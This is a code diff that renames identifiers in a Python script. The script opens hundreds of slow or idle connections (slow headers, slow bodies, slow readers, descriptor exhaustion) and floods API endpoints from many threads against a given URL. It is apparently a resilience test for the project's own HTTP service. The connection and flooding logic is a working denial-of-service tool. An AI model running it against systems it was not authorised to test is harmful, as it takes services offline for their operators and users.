@@ -27,13 +27,13 @@ UNKNOWN_KEYS = b"".join(b"unknown_key_%d: 1\n" % number for number in range(40_0
 
 
 @dataclass(frozen=True, slots=True)
-class Held:
-    """Connections that send `first`, then `more` every second, and read `taken` bytes then."""
+class Hold:
+    """Connections that send `first`, then `more` every second, and read `reads` bytes then."""
 
     count: int
     first: bytes = b""
     more: bytes = b""
-    taken: int = 0
+    reads: int = 0
 
 
 def _upload(token: str) -> bytes:
@@ -41,23 +41,23 @@ def _upload(token: str) -> bytes:
     return f"{head}Authorization: Bearer {token}\r\n\r\n".encode()
 
 
-def held(attack: str, token: str) -> list[Held]:
+def list_holds(attack: str, token: str) -> list[Hold]:
     """The connections of an attack that needs nothing else."""
     return {
-        "one byte": [Held(200, b"G")],
-        "slow headers": [Held(200, b"GET /jobs HTTP/1.1\r\nX: ", b"x")],
+        "one byte": [Hold(200, b"G")],
+        "slow headers": [Hold(200, b"GET /jobs HTTP/1.1\r\nX: ", b"x")],
         "slow bodies": [
-            Held(100, _upload("wrong"), b"x"),
-            Held(100, _upload(token), b"x"),
-            Held(100, b"POST /jobs HTTP/1.1\r\nHost: x\r\nContent-Length: 900000\r\n\r\n", b"x"),
+            Hold(100, _upload("wrong"), b"x"),
+            Hold(100, _upload(token), b"x"),
+            Hold(100, b"POST /jobs HTTP/1.1\r\nHost: x\r\nContent-Length: 900000\r\n\r\n", b"x"),
         ],
-        "slow readers": [Held(200, b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 60, taken=1)],
-        "idle connections": [Held(1000)],
-        "descriptors": [Held(3000)],
+        "slow readers": [Hold(200, b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 60, reads=1)],
+        "idle connections": [Hold(1000)],
+        "descriptors": [Hold(3000)],
     }.get(attack, [])
 
 
-async def hold(address: tuple[str, int], what: Held) -> None:
+async def hold(address: tuple[str, int], what: Hold) -> None:
     """One such connection, opened again whenever it is closed."""
     loop = asyncio.get_running_loop()
     while True:
@@ -67,9 +67,9 @@ async def hold(address: tuple[str, int], what: Held) -> None:
             await loop.sock_connect(connection, address)
             await loop.sock_sendall(connection, what.first)
             while True:
-                if what.taken:
+                if what.reads:
                     await asyncio.sleep(1.0)
-                    data = await loop.sock_recv(connection, what.taken)
+                    data = await loop.sock_recv(connection, what.reads)
                 else:
                     data = await _listen(loop, connection, what.more)
                 if not data:
@@ -91,7 +91,7 @@ async def _listen(loop: asyncio.AbstractEventLoop, connection: socket.socket, mo
     return answer.result()
 
 
-async def hold_all(address: tuple[str, int], kinds: list[Held]) -> None:
+async def hold_all(address: tuple[str, int], kinds: list[Hold]) -> None:
     """All of them, for ever."""
     tasks = [
         asyncio.ensure_future(hold(address, kind)) for kind in kinds for _ in range(kind.count)
@@ -134,7 +134,7 @@ class Caller:
                 self.call("POST", "/metrics/import", answer.content, media)
 
 
-def callers(attack: str, caller: Caller) -> tuple[int, Callable[[], None]] | None:
+def find_callers(attack: str, caller: Caller) -> tuple[int, Callable[[], None]] | None:
     """How many call what, again and again; None for attacks of connections alone."""
     return {
         "checks of a hanging engine": (40, caller.check_sites),
@@ -150,13 +150,13 @@ def _repeat(action: Callable[[], None]) -> None:
 
 def main() -> None:
     attack, url, token = sys.argv[1:4]
-    called = callers(attack, Caller(url, token))
-    if called is None:
+    calls = find_callers(attack, Caller(url, token))
+    if calls is None:
         address = urlsplit(url)
         assert address.hostname is not None and address.port is not None
-        asyncio.run(hold_all((address.hostname, address.port), held(attack, token)))
+        asyncio.run(hold_all((address.hostname, address.port), list_holds(attack, token)))
         return
-    count, action = called
+    count, action = calls
     for _ in range(count):
         threading.Thread(target=_repeat, args=(action,), daemon=True).start()
     print("begun", flush=True)
